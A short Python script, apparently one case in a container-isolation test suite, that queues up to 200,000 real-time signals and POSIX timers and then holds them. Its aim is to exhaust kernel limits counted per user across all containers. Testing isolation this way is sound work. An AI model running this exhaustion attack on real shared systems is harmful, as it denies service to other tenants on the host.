"""Queue signals and timers without end: the kernel counts them by user, over all containers."""

import ctypes
import os
import signal

from attacker import attempt, hold, libc

signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
queued = timers = 0
with attempt():
    while libc.sigqueue(os.getpid(), int(signal.SIGRTMIN), ctypes.c_void_p(0)) == 0 and queued < 200_000:
        queued += 1
with attempt():
    timer = ctypes.c_void_p()
    while libc.timer_create(1, None, ctypes.byref(timer)) == 0 and timers < 200_000:
        timers += 1
print(f"queued {queued} signals and {timers} timers", flush=True)
hold()
